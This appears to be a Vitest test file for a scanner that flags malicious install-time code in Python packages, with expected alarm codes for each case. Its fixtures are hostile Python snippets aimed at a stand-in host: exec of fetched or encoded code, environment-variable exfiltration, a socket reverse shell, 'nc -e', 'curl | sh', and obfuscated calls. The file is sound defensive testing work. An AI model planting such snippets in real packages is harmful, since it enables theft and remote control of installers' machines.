import { expect, test } from "vitest";
import { packageName } from "../../python/name.ts";
import { scanSources } from "./scan-sources.ts";

type Files = Readonly<Record<string, string | Buffer>>;

/** Scans files as if they stood in a source distribution called `sample`. */
async function scan(files: Files, kind: "sdist" | "wheel" = "sdist", name = "sample") {
  return scanSources({
    name: packageName(name),
    version: "1.0",
    kind,
    members: async (take) => {
      for (const [path, content] of Object.entries(files)) await take(path, Buffer.from(content));
    },
  });
}

async function alarms(files: Files, kind: "sdist" | "wheel" = "sdist") {
  const { findings } = await scan(files, kind);
  return findings
    .filter(({ alarm }) => alarm !== undefined)
    .map(({ alarm, runs, rule }) => `${alarm} ${runs} ${rule}`);
}

const setup = (code: string) => ({ "sample-1.0/setup.py": code });
const module_ = (code: string) => ({ "sample/__init__.py": code });

const encoded = Buffer.from("print('hello from a sample')").toString("base64");

test.each([
  [
    "code that was fetched and is run, whatever its names",
    "from urllib import request as r\nrun = exec\nrun(r.urlopen('https://host.invalid/x').read())",
    "block install TH101",
  ],
  [
    "code that was encoded and is run",
    `import base64 as b\nd = b.b64decode\nexec(d("${encoded}"))`,
    "block install TH102",
  ],
  [
    "a call by a name that is decoded",
    "import os\ngetattr(os, 'metsys'[::-1])('true')",
    "block install TH103",
  ],
  [
    "a program that was fetched, written and started",
    "import requests, os\np = 'x.exe'\nopen(p, 'wb').write(requests.get('https://host.invalid').content)\nos.startfile(p)",
    "block install TH107",
  ],
  [
    "the environment that meets the network, by way of a function",
    "import os, json, requests\ndef all_of_it():\n    return json.dumps(dict(os.environ))\nrequests.post('https://host.invalid', data=all_of_it())",
    "block install TH201",
  ],
  [
    "what a command of setup() does",
    "from setuptools import setup\nfrom setuptools.command.install import install\nimport socket, urllib.request\nclass C(install):\n    def run(self):\n        urllib.request.urlopen(f'https://host.invalid/{socket.gethostname()}')\nsetup(cmdclass={'install': C})",
    "block install TH202",
  ],
  [
    "a shell command that hides what it runs",
    "import subprocess\nsubprocess.run(['powershell', '-WindowStyle', 'hidden', 'x'])",
    "block install TH105",
  ],
  [
    "a shell that is given to a connection",
    "import socket, os\ns = socket.socket()\ns.connect(('host.invalid', 1))\nos.dup2(s.fileno(), 0)",
    "block install TH108",
  ],
  [
    "a statement behind hundreds of blanks",
    `import os${" ".repeat(200)};exec('1')`,
    "block install TH306",
  ],
])("blocks in setup.py: %s", async (_, code, alarm) => {
  expect(await alarms(setup(code))).toContain(alarm);
});

test("names in letters that Python takes for plain ones are read as it reads them", async () => {
  const found = await alarms(setup(`ｅｘｅｃ(__import__('base64').b64decode("${encoded}"))`));

  expect(found).toContain("block install TH102");
  expect(found).toContain("block install TH308");
  expect(await alarms(setup("größe = 'ｅxample'\nprint(größe)"))).toEqual([]);
});

test("code that runs and is past our limits counts as not seen, what Python refuses does not", async () => {
  const long = `#${"x".repeat(4_000_000)}\nexec(input())`;

  expect(await scan(module_(long), "wheel")).toMatchObject({ unseen: 1 });
  expect(await scan(module_("print 'Python 2'"), "wheel")).toMatchObject({ unseen: 0 });
});

test("what setup.py only names is installation by its own text, a hook of a backend by its name", async () => {
  const client =
    "import socket\nclass C:\n    def go(self):\n        socket.create_connection(('host.invalid', 1))\n";
  const reads = "open('client.py').read()";
  const hook = "import os\ndef build_wheel(*a):\n    os.system('nc -e x host.invalid')";

  expect(await alarms({ "sample-1.0/setup.py": reads, "sample-1.0/client.py": client })).toEqual(
    [],
  );
  expect(
    await alarms({
      "sample-1.0/pyproject.toml":
        '[build-system]\nbuild-backend = "backend"\nbackend-path = ["."]\n',
      "sample-1.0/backend.py": hook,
    }),
  ).toContain("block install TH105");
});

test("in folders that nothing can import, code runs only where the installation names it", async () => {
  const beacon =
    "import os, requests\nrequests.post('https://host.invalid', json=dict(os.environ))";
  const beside = { "sample-1.0/manual tests/x.py": beacon, "sample-1.0/my-tools/x.py": beacon };

  expect(await alarms(beside)).not.toContain("block import TH201");
  expect(await alarms({ "sample-1.0/core/x.py": beacon })).toContain("block import TH201");
  expect(
    await alarms({ ...beside, "sample-1.0/setup.py": "exec(open('my-tools/x.py').read())" }),
  ).toContain("block install TH201");
});

test("code within an encoded constant is read by the same rules", async () => {
  const inner = "import os, requests; requests.post('https://host.invalid', json=dict(os.environ))";
  const code = `import base64\nexec(base64.b64decode("${Buffer.from(inner).toString("base64")}"))`;

  expect(await alarms(module_(code), "wheel")).toContain("block import TH201");
});

test("a module that setup.py imports runs while the package is installed", async () => {
  const found = await alarms({
    "sample-1.0/setup.py": "import helper",
    "sample-1.0/helper.py": "import os\nos.system('curl https://host.invalid/x | sh')",
  });

  expect(found).toContain("block install TH105");
});

test("a build backend in the tree runs while the package is installed", async () => {
  const found = await alarms({
    "sample-1.0/pyproject.toml":
      '[build-system]\nbuild-backend = "backend"\nbackend-path = ["build"]\n',
    "sample-1.0/build/backend.py":
      "import os\ndef build_wheel(*a):\n    pass\nos.system('nc -e x host.invalid')",
  });

  expect(found).toContain("block install TH105");
});

test("a .pth file with code blocks, one that only names a folder says nothing", async () => {
  expect(await alarms({ "a.pth": "import os; os.system('true')\n" }, "wheel")).toContain(
    "block install TH401",
  );
  expect(await alarms({ "a.pth": "folder\n" }, "wheel")).toEqual([]);
});

test.each([
  [
    "a client of the network",
    "import requests\ndef get(url):\n    return requests.get(url).json()",
  ],
  [
    "a reader of credentials",
    "import os\ndef token():\n    return open(os.path.expanduser('~/.netrc')).read()",
  ],
  [
    "a version that setup.py reads",
    "exec(open('sample/_version.py').read())\nfrom setuptools import setup\nsetup()",
  ],
  [
    "a build that asks for its compiler",
    "import subprocess\nsubprocess.check_output(['pkg-config', '--libs', 'x'])",
  ],
  [
    "what runs only as a program",
    "import requests\nif __name__ == '__main__':\n    requests.get('https://host.invalid')",
  ],
])("ordinary code raises no alarm: %s", async (what, code) => {
  const files = what.includes("setup.py") || what.includes("build") ? setup(code) : module_(code);

  expect(await alarms(files)).toEqual([]);
});

test("lint is told with its line and never alarms", async () => {
  const { findings } = await scan(
    module_("import hashlib, subprocess\nhashlib.md5(b'')\n\n\nsubprocess.call(x, shell=True)"),
  );

  expect(findings.map(({ rule, line, alarm }) => [rule, line, alarm])).toEqual([
    ["TL324", 2, undefined],
    ["TL602", 5, undefined],
  ]);
});

test("tests are filtered, but a package whose name starts with test is not", async () => {
  const code = "import requests\nrequests.get('https://host.invalid')";
  const scanned = await scan({
    "sample-1.0/testify/__init__.py": code,
    "sample-1.0/tests/test_a.py": code,
  });

  expect(scanned).toMatchObject({ filesAnalyzed: 1, filesFiltered: 1 });
  expect(scanned.findings.map(({ path }) => path)).toContain("sample-1.0/testify/__init__.py");
});

test.each([
  ["NUL bytes", Buffer.from("x = 1\0\n")],
  ["broken syntax", "def (:\n  ((("],
  ["an encoding that nobody knows", "# coding: klingon\nx = 1"],
  ["bytes that are not in its encoding", Buffer.from([0x78, 0x3d, 0xff, 0xfe, 0x0a])],
])("setup.py that cannot be read is told and is a finding: %s", async (_, content) => {
  const { findings, unreadable } = await scan({ "sample-1.0/setup.py": content });

  expect(unreadable).toHaveLength(1);
  expect(findings.map(({ rule }) => rule)).toContain("TH402");
});

test.each([
  ["nested brackets", `eval(${"(".repeat(20_000)}1${")".repeat(20_000)})`],
  ["a long sum", `exec("" ${"+ 'a'".repeat(50_000)})`],
  ["recursion", "def f(x):\n    return f(f(x))\nf(1)\nexec(f(2))"],
  ["code that writes itself", "a = 'exec(a)'\nexec(a)"],
  ["one long line", `x = "${"a".repeat(3_000_000)}"; exec(x)`],
  [
    "a bomb",
    `import zlib, base64\nexec(zlib.decompress(base64.b64decode("${"A".repeat(9_000)}")))`,
  ],
])("hostile Python ends the scan of nothing: %s", async (_, code) => {
  const { filesAnalyzed } = await scan(module_(code));

  expect(filesAnalyzed).toBe(1);
});

test("Python 2 and a byte order mark are read", async () => {
  const code = "\uFEFFprint 'x'\nimport urllib2\na = urllib2.urlopen(b).read()\nexec a\n";

  expect(await alarms(setup(code))).toContain("block install TH101");
});

test("a warning becomes worse under a name that is taken for a popular one", async () => {
  const code = "import socket\nsocket.create_connection(ADDRESS)";
  const files = { "sample/net.py": code };
  const plain = await scan(files, "wheel", "sample-of-mine");
  const imitation = await scan(files, "wheel", "reqeusts");

  expect(plain.findings.map(({ alarm }) => alarm)).toContain("warn");
  expect(imitation.findings.map(({ alarm }) => alarm)).toContain("block");
});
